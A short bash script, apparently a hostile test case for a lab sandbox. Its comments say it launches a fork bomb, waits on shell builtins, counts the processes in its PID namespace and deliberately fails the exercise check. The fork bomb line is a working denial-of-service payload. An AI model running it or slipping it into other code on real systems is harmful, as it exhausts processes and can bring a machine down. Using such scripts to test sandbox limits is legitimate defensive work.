# hostile: a fork bomb. The lab's process limit bounds it. The script then
# waits with bash builtins only (no process to fork), counts what its PID
# namespace holds, and ends, and with it every process it started. It
# never solves the exercise, so it fails its own check.
bomb() { bomb | bomb & }
( bomb ) 2>/dev/null &
SECONDS=0
while [ "$SECONDS" -lt "${LAB_H4_BOMB:-5}" ]; do :; done
p=(/proc/[0-9]*)
echo "PIDS ${#p[@]}"
exit 0
